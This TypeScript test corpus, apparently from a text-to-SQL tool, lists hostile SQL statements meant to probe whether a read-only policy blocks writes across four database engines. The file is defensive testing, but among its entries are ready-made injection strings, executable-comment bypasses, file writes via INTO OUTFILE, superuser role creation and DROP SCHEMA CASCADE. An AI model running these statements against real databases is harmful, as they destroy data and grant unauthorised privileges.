import type { ProviderKind } from '../../provider.js';

/**
 * The safety corpus: hostile statements run against every provider (the ones each statement is
 * tagged with), written against the shop fixture (`customers`, `orders`, `events`, the view
 * `customer_order_totals`, the sequence `invoice_number_seq`).
 *
 * Each statement must be rejected by the provider's policy with a reason, or — where the policy lets
 * it through — fail or be contained in the database (read-only transaction, read-only file, time
 * limit). A statement may run to completion only on the providers listed in `harmlessOn`: there
 * the dangerous part is inside a comment or a string, so running it cannot change anything.
 *
 * Names the corpus creates start with `text2x_corpus`; files it tries to write start with
 * `/tmp/text2x-corpus-evil`, so the runner can check none appeared. Statements that would reach
 * beyond the scratch database if a provider let them through (shutting the server down, killing
 * other sessions, changing real accounts) target names that do not exist, or the one "victim"
 * session the PostgreSQL target opens, so a hole is found without harming a shared server.
 */
export interface SafetyStatement {
  sql: string;
  /** Providers the statement is run against. */
  providers: readonly ProviderKind[];
  category: SafetyCategory;
  /** Why it is dangerous, as a short phrase; used as the test name. */
  why: string;
  /** Providers on which running it to completion is harmless (the dangerous part is commented or quoted). */
  harmlessOn?: readonly ProviderKind[];
}

export type SafetyCategory =
  | 'data change'
  | 'schema change'
  | 'several statements'
  | 'comment trick'
  | 'case and whitespace'
  | 'quoting trick'
  | 'unicode trick'
  | 'long input'
  | 'write in a CTE'
  | 'SELECT INTO'
  | 'file access'
  | 'dangerous function'
  | 'resource exhaustion'
  | 'locking read'
  | 'transaction control'
  | 'session state'
  | 'procedural code'
  | 'maintenance'
  | 'privileged read'
  | 'outside the data source';

const ALL: readonly ProviderKind[] = ['sqlite', 'postgres', 'mysql', 'duckdb'];
const SQLITE: readonly ProviderKind[] = ['sqlite'];
const POSTGRES: readonly ProviderKind[] = ['postgres'];
const MYSQL: readonly ProviderKind[] = ['mysql'];
const DUCKDB: readonly ProviderKind[] = ['duckdb'];
const NOT_MYSQL: readonly ProviderKind[] = ['sqlite', 'postgres', 'duckdb'];
const SERVERS: readonly ProviderKind[] = ['postgres', 'mysql'];
const WITH_SEQUENCES: readonly ProviderKind[] = ['postgres', 'mysql', 'duckdb'];
const POSTGRES_DUCKDB: readonly ProviderKind[] = ['postgres', 'duckdb'];
const SQLITE_DUCKDB: readonly ProviderKind[] = ['sqlite', 'duckdb'];
const SQLITE_MYSQL: readonly ProviderKind[] = ['sqlite', 'mysql'];

type Entry = readonly [sql: string, why: string, harmlessOn?: readonly ProviderKind[]];

function group(
  category: SafetyCategory,
  providers: readonly ProviderKind[],
  entries: readonly Entry[],
): SafetyStatement[] {
  return entries.map(([sql, why, harmlessOn]) => ({
    sql,
    providers,
    category,
    why,
    ...(harmlessOn === undefined ? {} : { harmlessOn }),
  }));
}

/** Prefix of every file the corpus tries to create. */
export const EVIL_FILE_PREFIX = '/tmp/text2x-corpus-evil';
const EVIL = EVIL_FILE_PREFIX;

/** Advisory/user lock name the corpus tries to take (checked free afterwards). */
export const CORPUS_LOCK_NAME = 'text2x_corpus_lock';

/** application_name of the idle PostgreSQL session the corpus tries to cancel and terminate. */
export const VICTIM_APPLICATION_NAME = 'text2x-corpus-victim';

const VICTIM = `FROM pg_stat_activity WHERE application_name = '${VICTIM_APPLICATION_NAME}'`;

export const SAFETY_CORPUS: readonly SafetyStatement[] = [
  // ── Data changes (DML) in every form ────────────────────────────────────────────────────────
  ...group('data change', ALL, [
    ["INSERT INTO customers (customer_id, name) VALUES (100, 'Mallory')", 'plain INSERT'],
    ["INSERT INTO customers VALUES (101, 'Mallory', NULL, NULL, NULL, NULL)", 'INSERT without a column list'],
    ["INSERT INTO customers (customer_id, name) VALUES (102, 'a'), (103, 'b')", 'multi-row INSERT'],
    [
      'INSERT INTO events SELECT event_id + 1000000, kind, amount FROM events',
      'INSERT … SELECT doubling a table',
    ],
    [
      'INSERT INTO customers (customer_id, name) SELECT customer_id + 100, name FROM customers WHERE customer_id < 3',
      'INSERT … SELECT with a filter',
    ],
    [
      "INSERT INTO customers (customer_id, name) VALUES (104, 'x') RETURNING customer_id",
      'INSERT … RETURNING',
    ],
    ["UPDATE customers SET name = 'Mallory'", 'plain UPDATE'],
    ['UPDATE customers SET country = NULL WHERE customer_id = 1', 'UPDATE of one row'],
    ['UPDATE customers SET name = name', 'an UPDATE that changes no value still writes'],
    ['UPDATE events SET amount = amount + 1 WHERE event_id <= 10', 'UPDATE of the large table'],
    [
      "UPDATE orders SET status = 'cancelled' WHERE order_id IN (SELECT order_id FROM orders WHERE status = 'pending')",
      'UPDATE with a subquery',
    ],
    ['UPDATE products SET price = 0 RETURNING *', 'UPDATE … RETURNING'],
    ['DELETE FROM customers', 'plain DELETE'],
    ['DELETE FROM order_items WHERE order_id = 1', 'DELETE with a filter'],
    ['DELETE FROM events WHERE 1 = 0', 'a DELETE that matches nothing is still a write'],
    ['DELETE FROM orders WHERE order_id = 12 RETURNING *', 'DELETE … RETURNING'],
    [
      'DELETE FROM customers WHERE customer_id NOT IN (SELECT customer_id FROM orders)',
      'DELETE with a subquery',
    ],
    [
      "INSERT INTO customer_order_totals (customer_id, name, order_count) VALUES (1, 'x', 0)",
      'INSERT into a view',
    ],
    ["UPDATE customer_order_totals SET name = 'x'", 'UPDATE through a view'],
    ['DELETE FROM customer_order_totals', 'DELETE through a view'],
    ['TRUNCATE TABLE events', 'TRUNCATE TABLE'],
    ['TRUNCATE events', 'TRUNCATE without TABLE'],
  ]),
  ...group('data change', NOT_MYSQL, [
    ['INSERT INTO orders DEFAULT VALUES', 'INSERT DEFAULT VALUES'],
    [
      "INSERT INTO customers (customer_id, name) VALUES (1, 'x') ON CONFLICT (customer_id) DO UPDATE SET name = excluded.name",
      'upsert with DO UPDATE',
    ],
    [
      "INSERT INTO customers (customer_id, name) VALUES (1, 'x') ON CONFLICT DO NOTHING",
      'upsert with DO NOTHING',
    ],
    [
      'UPDATE customers SET name = o.status FROM orders o WHERE o.customer_id = customers.customer_id',
      'UPDATE … FROM',
    ],
  ]),
  ...group('data change', SQLITE_DUCKDB, [
    ["INSERT OR REPLACE INTO customers (customer_id, name) VALUES (1, 'x')", 'INSERT OR REPLACE'],
    ["INSERT OR IGNORE INTO customers (customer_id, name) VALUES (1, 'x')", 'INSERT OR IGNORE'],
  ]),
  ...group('data change', SQLITE, [
    ["INSERT OR ROLLBACK INTO customers (customer_id, name) VALUES (1, 'x')", 'INSERT OR ROLLBACK'],
    ['UPDATE OR REPLACE customers SET customer_id = 1', 'UPDATE OR REPLACE'],
  ]),
  ...group('data change', SQLITE_MYSQL, [
    ["REPLACE INTO customers (customer_id, name) VALUES (1, 'x')", 'REPLACE INTO'],
  ]),
  ...group('data change', POSTGRES_DUCKDB, [
    [
      "DELETE FROM orders USING customers WHERE orders.customer_id = customers.customer_id AND customers.country = 'Japan'",
      'DELETE … USING',
    ],
    [
      "MERGE INTO customers c USING (SELECT 1 AS id) s ON c.customer_id = s.id WHEN MATCHED THEN UPDATE SET name = 'x'",
      'MERGE with UPDATE',
    ],
    [
      'MERGE INTO customers c USING (SELECT 1 AS id) s ON c.customer_id = s.id WHEN MATCHED THEN DELETE',
      'MERGE with DELETE',
    ],
    [
      "MERGE INTO customers c USING (SELECT 200 AS id) s ON c.customer_id = s.id WHEN NOT MATCHED THEN INSERT (customer_id, name) VALUES (s.id, 'x')",
      'MERGE with INSERT',
    ],
  ]),
  ...group('data change', POSTGRES, [
    [
      "INSERT INTO customers (customer_id, name) OVERRIDING SYSTEM VALUE VALUES (105, 'x')",
      'INSERT OVERRIDING SYSTEM VALUE',
    ],
    [
      "INSERT INTO customers (customer_id, name) VALUES (1, 'x') ON CONFLICT ON CONSTRAINT customers_pkey DO NOTHING",
      'upsert on a named constraint',
    ],
    ["UPDATE ONLY customers SET name = 'x'", 'UPDATE ONLY'],
    ['DELETE FROM ONLY customers', 'DELETE FROM ONLY'],
    [
      "UPDATE customers SET name = 'x' WHERE CURRENT OF text2x_corpus_cursor",
      'UPDATE WHERE CURRENT OF a cursor',
    ],
    ['TRUNCATE events RESTART IDENTITY CASCADE', 'TRUNCATE … CASCADE'],
    ['TRUNCATE ONLY events', 'TRUNCATE ONLY'],
  ]),
  ...group('data change', DUCKDB, [
    ["INSERT INTO customers BY NAME SELECT 106 AS customer_id, 'x' AS name", 'INSERT BY NAME'],
    [
      "INSERT INTO customers (customer_id, name) SELECT 107, 'x' ON CONFLICT DO NOTHING",
      'INSERT … SELECT upsert',
    ],
  ]),
  ...group('data change', MYSQL, [
    ["REPLACE customers SET customer_id = 1, name = 'x'", 'REPLACE … SET'],
    ["INSERT customers SET customer_id = 108, name = 'x'", 'INSERT … SET without INTO'],
    ["INSERT IGNORE INTO customers (customer_id, name) VALUES (1, 'x')", 'INSERT IGNORE'],
    [
      "INSERT INTO customers (customer_id, name) VALUES (1, 'x') ON DUPLICATE KEY UPDATE name = 'x'",
      'INSERT … ON DUPLICATE KEY UPDATE',
    ],
    ["INSERT LOW_PRIORITY INTO customers (customer_id, name) VALUES (109, 'x')", 'INSERT LOW_PRIORITY'],
    ["INSERT DELAYED INTO customers (customer_id, name) VALUES (110, 'x')", 'INSERT DELAYED'],
    ["INSERT HIGH_PRIORITY INTO customers (customer_id, name) VALUES (111, 'x')", 'INSERT HIGH_PRIORITY'],
    ["UPDATE LOW_PRIORITY IGNORE customers SET name = 'x'", 'UPDATE LOW_PRIORITY IGNORE'],
    ["UPDATE customers SET name = 'x' ORDER BY customer_id LIMIT 1", 'UPDATE … ORDER BY … LIMIT'],
    [
      'UPDATE customers c JOIN orders o ON o.customer_id = c.customer_id SET c.name = o.status',
      'multi-table UPDATE',
    ],
    ['DELETE c FROM customers c JOIN orders o ON o.customer_id = c.customer_id', 'multi-table DELETE'],
    ['DELETE FROM c USING customers c JOIN orders o ON o.customer_id = c.customer_id', 'DELETE … USING'],
    ['DELETE QUICK IGNORE FROM events WHERE event_id < 10', 'DELETE QUICK IGNORE'],
    ['DELETE FROM events ORDER BY event_id LIMIT 10', 'DELETE … ORDER BY … LIMIT'],
    ['REPLACE INTO customers SELECT * FROM customers', 'REPLACE … SELECT'],
    ['HANDLER customers OPEN', 'HANDLER opens a table outside SQL'],
  ]),

  // ── Schema changes (DDL) ───────────────────────────────────────────────────────────────────
  ...group('schema change', ALL, [
    ['CREATE TABLE text2x_corpus_evil (a INTEGER)', 'CREATE TABLE'],
    ['CREATE TABLE IF NOT EXISTS text2x_corpus_evil AS SELECT * FROM customers', 'CREATE TABLE … AS SELECT'],
    [
      'CREATE TEMPORARY TABLE text2x_corpus_evil (a INTEGER)',
      'CREATE TEMPORARY TABLE (allowed in read-only transactions by some engines)',
    ],
    ['CREATE TEMPORARY TABLE text2x_corpus_evil AS SELECT * FROM customers', 'CREATE TEMPORARY TABLE … AS'],
    ['CREATE VIEW text2x_corpus_evil AS SELECT 1 AS a', 'CREATE VIEW'],
    ['CREATE OR REPLACE VIEW customer_order_totals AS SELECT 1 AS a', 'replacing an existing view'],
    ['CREATE INDEX text2x_corpus_evil ON customers (name)', 'CREATE INDEX'],
    ['CREATE UNIQUE INDEX text2x_corpus_evil ON products (name)', 'CREATE UNIQUE INDEX'],
    ['DROP TABLE customers', 'DROP TABLE'],
    ['DROP TABLE IF EXISTS events', 'DROP TABLE IF EXISTS'],
    ['DROP TABLE order_items, orders', 'DROP of two tables'],
    ['DROP VIEW customer_order_totals', 'DROP VIEW'],
    ['DROP VIEW IF EXISTS customer_order_totals', 'DROP VIEW IF EXISTS'],
    ['DROP INDEX IF EXISTS text2x_corpus_missing', 'DROP INDEX'],
    ['ALTER TABLE customers ADD COLUMN text2x_corpus_evil INTEGER', 'ALTER TABLE ADD COLUMN'],
    ['ALTER TABLE customers RENAME TO text2x_corpus_evil', 'ALTER TABLE RENAME'],
    ['ALTER TABLE customers RENAME COLUMN name TO full_name', 'ALTER TABLE RENAME COLUMN'],
    ['ALTER TABLE customers DROP COLUMN email', 'ALTER TABLE DROP COLUMN'],
  ]),
  ...group('schema change', SQLITE, [
    [
      'CREATE TRIGGER text2x_corpus_evil AFTER INSERT ON customers BEGIN DELETE FROM orders; END',
      'CREATE TRIGGER',
    ],
    [
      'CREATE TEMP TRIGGER text2x_corpus_evil AFTER INSERT ON customers BEGIN SELECT 1; END',
      'CREATE TEMP TRIGGER',
    ],
    ['CREATE VIRTUAL TABLE text2x_corpus_evil USING fts5(a)', 'CREATE VIRTUAL TABLE'],
    ['CREATE TEMP VIEW text2x_corpus_evil AS SELECT 1', 'CREATE TEMP VIEW'],
    ['DROP TRIGGER IF EXISTS text2x_corpus_evil', 'DROP TRIGGER'],
    ['CREATE INDEX text2x_corpus_evil ON orders (status) WHERE status IS NOT NULL', 'CREATE partial INDEX'],
  ]),
  ...group('schema change', WITH_SEQUENCES, [
    ['CREATE SCHEMA text2x_corpus_evil', 'CREATE SCHEMA'],
    ['CREATE SEQUENCE text2x_corpus_evil', 'CREATE SEQUENCE'],
    ['DROP SEQUENCE invoice_number_seq', 'DROP SEQUENCE'],
    ['ALTER SEQUENCE invoice_number_seq RESTART WITH 1000', 'ALTER SEQUENCE RESTART'],
    ['CREATE OR REPLACE TABLE customers AS SELECT 1 AS a', 'CREATE OR REPLACE TABLE replaces data'],
  ]),
  ...group('schema change', POSTGRES_DUCKDB, [
    ["CREATE TYPE text2x_corpus_evil AS ENUM ('a', 'b')", 'CREATE TYPE'],
    ['ALTER TABLE customers ALTER COLUMN name TYPE TEXT', 'ALTER COLUMN TYPE'],
    ['ALTER TABLE customers ALTER COLUMN name DROP NOT NULL', 'ALTER COLUMN DROP NOT NULL'],
    ['ALTER VIEW customer_order_totals RENAME TO text2x_corpus_evil', 'ALTER VIEW RENAME'],
    ["COMMENT ON TABLE customers IS 'x'", 'COMMENT ON TABLE'],
    ['COMMENT ON COLUMN customers.country IS NULL', 'COMMENT ON COLUMN'],
    ['DROP SCHEMA IF EXISTS text2x_corpus_missing CASCADE', 'DROP SCHEMA … CASCADE'],
  ]),
  ...group('schema change', SERVERS, [
    ['CREATE DATABASE text2x_corpus_evil', 'CREATE DATABASE'],
    ['DROP DATABASE text2x_corpus_missing', 'DROP DATABASE'],
    ['GRANT SELECT ON customers TO PUBLIC', 'GRANT'],
    ['CALL text2x_corpus_missing()', 'CALL of a procedure'],
  ]),
  ...group('schema change', POSTGRES, [
    ['CREATE UNLOGGED TABLE text2x_corpus_evil (a INTEGER)', 'CREATE UNLOGGED TABLE'],
    ['CREATE TABLE text2x_corpus_evil (LIKE customers INCLUDING ALL)', 'CREATE TABLE LIKE'],
    ['CREATE MATERIALIZED VIEW text2x_corpus_evil AS SELECT * FROM customers', 'CREATE MATERIALIZED VIEW'],
    ['CREATE INDEX CONCURRENTLY text2x_corpus_evil ON customers (name)', 'CREATE INDEX CONCURRENTLY'],
    ["CREATE FUNCTION text2x_corpus_evil() RETURNS integer LANGUAGE sql AS 'SELECT 1'", 'CREATE FUNCTION'],
    [
      "CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS 'SELECT $1'",
      'a function that shadows a built-in',
    ],
    ["CREATE PROCEDURE text2x_corpus_evil() LANGUAGE sql AS 'DELETE FROM customers'", 'CREATE PROCEDURE'],
    [
      'CREATE TRIGGER text2x_corpus_evil AFTER INSERT ON customers FOR EACH ROW EXECUTE FUNCTION text2x_corpus_missing()',
      'CREATE TRIGGER',
    ],
    ['CREATE DOMAIN text2x_corpus_evil AS integer CHECK (VALUE > 0)', 'CREATE DOMAIN'],
    ['CREATE EXTENSION IF NOT EXISTS dblink', 'CREATE EXTENSION'],
    ['CREATE ROLE text2x_corpus_evil SUPERUSER LOGIN', 'CREATE ROLE'],
    ["CREATE USER text2x_corpus_evil WITH PASSWORD 'x'", 'CREATE USER'],
    ['CREATE RULE text2x_corpus_evil AS ON INSERT TO customers DO INSTEAD NOTHING', 'CREATE RULE'],
    ['CREATE POLICY text2x_corpus_evil ON customers USING (true)', 'CREATE POLICY'],
    ['CREATE PUBLICATION text2x_corpus_evil FOR ALL TABLES', 'CREATE PUBLICATION'],
    [`CREATE TABLESPACE text2x_corpus_evil LOCATION '${EVIL}-tablespace'`, 'CREATE TABLESPACE'],
    ['DROP SCHEMA public CASCADE', 'DROP SCHEMA public CASCADE'],
    ['DROP OWNED BY CURRENT_USER', 'DROP OWNED BY'],
    ['DROP ROLE IF EXISTS text2x_corpus_missing', 'DROP ROLE'],
    ['DROP FUNCTION IF EXISTS text2x_corpus_missing()', 'DROP FUNCTION'],
    ['DROP EXTENSION IF EXISTS plpgsql', 'DROP EXTENSION'],
    ['ALTER TABLE customers OWNER TO text2x_corpus_missing', 'ALTER TABLE OWNER'],
    ['ALTER TABLE customers DISABLE TRIGGER ALL', 'ALTER TABLE DISABLE TRIGGER'],
    ['ALTER TABLE customers ENABLE ROW LEVEL SECURITY', 'ALTER TABLE ENABLE ROW LEVEL SECURITY'],
    ['ALTER TABLE customers SET UNLOGGED', 'ALTER TABLE SET UNLOGGED'],
    ['ALTER ROLE text2x_corpus_missing SET default_transaction_read_only = off', 'ALTER ROLE SET'],
    ["ALTER SYSTEM SET work_mem = '64kB'", 'ALTER SYSTEM writes the server configuration'],
    ['REVOKE SELECT ON customers FROM PUBLIC', 'REVOKE'],
    ['REASSIGN OWNED BY CURRENT_USER TO text2x_corpus_missing', 'REASSIGN OWNED'],
    ['SECURITY LABEL ON TABLE customers IS NULL', 'SECURITY LABEL'],
    ['IMPORT FOREIGN SCHEMA public FROM SERVER text2x_corpus_missing INTO public', 'IMPORT FOREIGN SCHEMA'],
  ]),
  ...group('schema change', MYSQL, [
    ['CREATE TABLE text2x_corpus_evil LIKE customers', 'CREATE TABLE LIKE'],
    ['CREATE TABLE text2x_corpus_evil SELECT * FROM customers', 'CREATE TABLE … SELECT without AS'],
    ['CREATE FUNCTION text2x_corpus_evil() RETURNS INT DETERMINISTIC RETURN 1', 'CREATE FUNCTION'],
    ['CREATE PROCEDURE text2x_corpus_evil() DELETE FROM customers', 'CREATE PROCEDURE'],
    [
      "CREATE TRIGGER text2x_corpus_evil BEFORE INSERT ON customers FOR EACH ROW SET NEW.name = 'x'",
      'CREATE TRIGGER',
    ],
    [
      'CREATE EVENT text2x_corpus_evil ON SCHEDULE EVERY 1 SECOND DO DELETE FROM customers',
      'CREATE EVENT schedules a write',
    ],
    [
      'CREATE DEFINER = CURRENT_USER SQL SECURITY DEFINER VIEW text2x_corpus_evil AS SELECT 1 AS a',
      'CREATE VIEW with a definer',
    ],
    ["CREATE USER 'text2x_corpus_evil'@'%' IDENTIFIED BY 'x'", 'CREATE USER'],
    ["GRANT ALL PRIVILEGES ON *.* TO 'text2x_corpus_evil'@'%'", 'GRANT ALL'],
    ['ALTER TABLE customers MODIFY name TEXT', 'ALTER TABLE MODIFY'],
    ['ALTER TABLE customers ENGINE = MyISAM', 'ALTER TABLE ENGINE'],
    ['ALTER TABLE customers ADD INDEX (name)', 'ALTER TABLE ADD INDEX'],
    ['ALTER TABLE events DISCARD TABLESPACE', 'DISCARD TABLESPACE drops the data file'],
    ['ALTER DATABASE CHARACTER SET latin1', 'ALTER DATABASE'],
    ["ALTER USER 'text2x_corpus_missing'@'%' IDENTIFIED BY 'x'", 'ALTER USER'],
    ["SET PASSWORD FOR 'text2x_corpus_missing'@'%' = PASSWORD('x')", 'SET PASSWORD'],
    ['RENAME TABLE customers TO text2x_corpus_evil', 'RENAME TABLE'],
    ["RENAME USER 'text2x_corpus_missing'@'%' TO 'text2x_corpus_evil'@'%'", 'RENAME USER'],
    ['DROP SCHEMA IF EXISTS text2x_corpus_missing', 'DROP SCHEMA'],
    ["DROP USER IF EXISTS 'text2x_corpus_missing'@'%'", 'DROP USER'],
    ['DROP PROCEDURE IF EXISTS text2x_corpus_missing', 'DROP PROCEDURE'],
    ['DROP FUNCTION IF EXISTS text2x_corpus_missing', 'DROP FUNCTION'],
    ['DROP EVENT IF EXISTS text2x_corpus_missing', 'DROP EVENT'],
    ['DROP TRIGGER IF EXISTS text2x_corpus_missing', 'DROP TRIGGER'],
    ['DROP INDEX text2x_corpus_missing ON customers', 'DROP INDEX … ON'],
    ["REVOKE ALL PRIVILEGES ON *.* FROM 'text2x_corpus_missing'@'%'", 'REVOKE'],
  ]),
  ...group('schema change', DUCKDB, [
    ['CREATE MACRO text2x_corpus_evil(a) AS a + 1', 'CREATE MACRO'],
    ['CREATE TEMP MACRO text2x_corpus_evil(a) AS a + 1', 'CREATE TEMP MACRO'],
    ['CREATE TABLE text2x_corpus_evil AS FROM customers', 'CREATE TABLE AS FROM'],
    [
      "CREATE SECRET text2x_corpus_evil (TYPE s3, KEY_ID 'x', SECRET 'y')",
      'CREATE SECRET stores credentials',
    ],
    [
      "CREATE PERSISTENT SECRET text2x_corpus_evil (TYPE s3, KEY_ID 'x', SECRET 'y')",
      'CREATE PERSISTENT SECRET writes to the home directory',
    ],
    ['DROP MACRO IF EXISTS text2x_corpus_missing', 'DROP MACRO'],
    ['ALTER TABLE customers ALTER name SET DEFAULT 1', 'ALTER … SET DEFAULT'],
  ]),

  // ── Several statements ─────────────────────────────────────────────────────────────────────
  ...group('several statements', ALL, [
    ['SELECT 1; DROP TABLE customers', 'a DROP after a read'],
    ['SELECT 1;DELETE FROM customers;', 'a DELETE without spaces'],
    ['SELECT name FROM customers; SELECT name FROM products', 'two reads are still two statements'],
    ['SELECT 1 ; ; DROP TABLE customers', 'an empty statement in between'],
    [';DROP TABLE customers', 'a leading semicolon'],
    [
      "SELECT * FROM customers WHERE name = 'a';DROP TABLE customers;--'",
      'classic injection that closes the string early',
    ],
    ["SELECT * FROM customers WHERE 1 = 1; UPDATE customers SET name = 'x'", 'an UPDATE after a read'],
    ["SELECT 1;\nINSERT INTO customers (customer_id, name) VALUES (112, 'x')", 'an INSERT on the next line'],
    ['SELECT 1;\nTRUNCATE TABLE events', 'a TRUNCATE on the next line'],
    ['SELECT 1; CREATE TABLE text2x_corpus_evil (a INTEGER)', 'a CREATE after a read'],
    ['SELECT count(*) FROM customers;\n\n\nDELETE FROM order_items', 'blank lines between'],
    ['SELECT 1; SELECT 2; SELECT 3; DROP VIEW customer_order_totals', 'a DROP after three reads'],
    ['WITH x AS (SELECT 1 AS a) SELECT a FROM x; DELETE FROM customers', 'a DELETE after a CTE'],
    ['SELECT 1 UNION SELECT 2; DROP TABLE customers', 'a DROP after a UNION'],
    ['SELECT 1; -- a comment\nDROP TABLE customers', 'a comment between'],
    ['SELECT 1;/* a comment */DROP TABLE customers', 'a block comment between'],
    ['DELETE FROM customers; SELECT 1', 'a write first, then a read'],
    ['SELECT 1; ALTER TABLE customers ADD COLUMN x INTEGER', 'an ALTER after a read'],
    [`${'SELECT 1;'.repeat(500)}DROP TABLE customers`, 'a DROP after five hundred reads'],
  ]),

  // ── Comment tricks ─────────────────────────────────────────────────────────────────────────
  ...group('comment trick', ALL, [
    ['/*x*/DELETE FROM customers', 'a comment before the keyword'],
    ['--comment\nDROP TABLE customers', 'a line comment before the statement'],
    ['SELECT 1 --\n; DROP TABLE customers', 'a line comment that ends before the semicolon'],
    ['SELECT 1 /* ; */ ; DELETE FROM customers', 'a semicolon inside a comment and one outside'],
    ['SELECT 1 -- comment\r\n; DELETE FROM customers', 'CRLF after a line comment'],
    [
      'SELECT 1 -- comment\r; DELETE FROM customers',
      'a bare CR after a line comment (ends it in PostgreSQL, not in SQLite or MySQL)',
      SQLITE_MYSQL,
    ],
    ['DELETE/**/FROM/**/customers', 'comments instead of spaces'],
    ['DROP/**/TABLE/**/customers', 'comments instead of spaces in DDL'],
    ["/* multi\nline */ UPDATE customers SET name = 'x'", 'a multi-line comment before an UPDATE'],
    ['SELECT/**/1;/**/DROP/**/TABLE/**/customers', 'comments everywhere'],
    [
      'SELECT 1 /* /* */ ; DROP TABLE customers */',
      'nested comment: one comment in PostgreSQL, a second statement in SQLite and MySQL',
      POSTGRES_DUCKDB,
    ],
    [
      'SELECT 1 /* unterminated ; DROP TABLE customers',
      'an unterminated comment (SQLite reads it as a comment to the end)',
      SQLITE,
    ],
    ['SELECT 1 -- ; DROP TABLE customers', 'a DROP inside a line comment', ALL],
    ['SELECT name FROM customers /* ; DELETE FROM customers */', 'a DELETE inside a block comment', ALL],
    ['SELECT name FROM customers -- DELETE FROM customers', 'a DELETE after a line comment', ALL],
    ['SELECT 1 # ; DROP TABLE customers', '# starts a comment in MySQL only', MYSQL],
    ['SELECT 1 #\n; DROP TABLE customers', 'a # comment that ends before the semicolon'],
    [
      'SELECT 1 --1; DROP TABLE customers',
      '-- without a space is not a comment in MySQL (1 - -1)',
      NOT_MYSQL,
    ],
    ['SELECT 1 --; DROP TABLE customers', '--; is a comment in standard SQL but not in MySQL', NOT_MYSQL],
    ["SELECT 'a' /* ' */ ; DROP TABLE customers; -- '", 'a quote inside a comment between statements'],
  ]),
  ...group('comment trick', ALL, [
    ['SELECT 1 /*! ; DROP TABLE customers */', 'MySQL runs the text of a /*! comment', NOT_MYSQL],
    ['/*!DELETE*/ FROM customers', 'an executable comment holding the keyword', NOT_MYSQL],
    ['SELECT 1 /*!50000 ; DELETE FROM customers */', 'a versioned executable comment', NOT_MYSQL],
    ['SELECT 1 /*M! ; DROP TABLE customers */', 'a MariaDB executable comment', NOT_MYSQL],
    ['SELECT 1 /*M!100000 ; DELETE FROM customers */', 'a versioned MariaDB executable comment', NOT_MYSQL],
    [
      'SELECT name /*!, SLEEP(5) */ FROM customers',
      'an executable comment that adds a SLEEP per row',
      NOT_MYSQL,
    ],
    [
      `SELECT name FROM customers /*! INTO OUTFILE '${EVIL}-executable-comment.txt' */`,
      'an executable comment that writes a file',
      NOT_MYSQL,
    ],
  ]),

  // ── Case and whitespace ────────────────────────────────────────────────────────────────────
  ...group('case and whitespace', ALL, [
    ['dElEtE FROM customers', 'mixed case'],
    ['DeLeTe\tFROM\ncustomers', 'tabs and newlines'],
    ['\n\n   DROP\r\nTABLE customers', 'leading blank lines'],
    ['\fDELETE\vFROM customers', 'form feed and vertical tab'],
    ["\t\tupdate\tcustomers\tset\tname\t=\t'x'", 'lower case with tabs'],
    ["iNsErT iNtO customers (customer_id, name) VALUES (113, 'x')", 'mixed-case INSERT'],
    ['   TRUNCATE   events   ', 'padding around TRUNCATE'],
    ['(DELETE FROM customers)', 'a write in parentheses'],
    ['CrEaTe TeMpOrArY tAbLe text2x_corpus_evil (a INTEGER)', 'mixed-case CREATE TEMPORARY'],
    ['\r\nDELETE FROM customers\r\n', 'CRLF around a DELETE'],
    ['DELETE FROM customers\n;\n', 'a semicolon on its own line'],
    ['drop table customers', 'lower case DROP'],
  ]),

  // ── Quoting tricks ─────────────────────────────────────────────────────────────────────────
  ...group('quoting trick', ALL, [
    ["SELECT 'x\\' ; DROP TABLE customers; --'", 'a backslash escapes a quote in MySQL only', MYSQL],
    [
      "SELECT * FROM customers WHERE name = 'a\\'; DELETE FROM customers; --'",
      'backslash-quote injection',
      MYSQL,
    ],
    [
      "SELECT 'a\\'' ; DROP TABLE customers -- '",
      'a doubled quote after a backslash: one string in standard SQL, a second statement in MySQL',
      NOT_MYSQL,
    ],
    ['SELECT "x\\" ; DROP TABLE customers; --"', 'a double-quoted string with a backslash', MYSQL],
    [
      "SELECT E'x\\' ; DROP TABLE customers; --'",
      'an escape string: one literal in PostgreSQL',
      ['postgres', 'duckdb', 'mysql'],
    ],
    ['SELECT $$ ; DROP TABLE customers; $$', 'dollar quoting hides a DROP', POSTGRES_DUCKDB],
    ['SELECT $tag$ ; DELETE FROM customers; $tag$', 'tagged dollar quoting', POSTGRES_DUCKDB],
    [
      'SELECT $a$ $$; DROP TABLE customers; $$ $a$',
      'dollar quotes inside tagged dollar quotes',
      POSTGRES_DUCKDB,
    ],
    ['SELECT $$x$$; DROP TABLE customers', 'a DROP after a dollar-quoted string'],
    ['SELECT $a$x$a$; DELETE FROM customers', 'a DELETE after a tagged dollar-quoted string'],
    ['SELECT * FROM "customers"; DROP TABLE "customers"', 'double-quoted names'],
    ['SELECT "a;b" FROM customers; DELETE FROM customers', 'a semicolon inside a quoted name'],
    ['DELETE FROM `customers`', 'backtick-quoted names'],
    ['SELECT `a;b` FROM customers; DELETE FROM customers', 'a semicolon inside backticks'],
    ["SELECT 'it''s'; DROP TABLE customers", 'a doubled quote before a DROP'],
    ["SELECT 'x'' ; DROP TABLE customers; --'", 'a DROP inside a string with a doubled quote', ALL],
    ["SELECT 'DROP TABLE customers' AS statement", 'a DROP inside a string literal', ALL],
    ['SELECT name AS "delete" FROM customers', 'a keyword as a quoted alias', ALL],
    [
      "SELECT name FROM customers WHERE name = 'DELETE FROM customers'",
      'a DELETE inside a compared string',
      ALL,
    ],
    ["SELECT U&'\\0027; DROP TABLE customers; --'", 'a Unicode escape that spells a quote', ALL],
    ["SELECT N'x'; DROP TABLE customers", 'a national string before a DROP'],
    ["SELECT _utf8mb4'x'; DROP TABLE customers", 'a character-set introducer before a DROP'],
    ["SELECT '/*' ; DROP TABLE customers; -- */", 'a comment opener inside a string'],
    ['SELECT "--" ; DROP TABLE customers', 'a comment marker inside a quoted name'],
    ["SELECT 'a\\\\'; DROP TABLE customers; -- '", 'an escaped backslash ends the string in every dialect'],
    ['SELECT `x` ; DROP TABLE customers', 'a backtick name before a DROP'],
  ]),
  ...group('quoting trick', SQLITE, [['SELECT [x]; DELETE FROM [customers]', 'bracket-quoted names']]),

  // ── Unicode look-alikes and invisible characters ───────────────────────────────────────────
  ...group('unicode trick', ALL, [
    ['ＤＥＬＥＴＥ FROM customers', 'full-width letters'],
    ['DЕLETE FROM customers', 'a Cyrillic Е inside DELETE'],
    ['SELECT 1;\u00a0DROP TABLE customers', 'a no-break space after the semicolon'],
    ['SELECT 1\u037e DROP TABLE customers', 'a Greek question mark, which looks like a semicolon'],
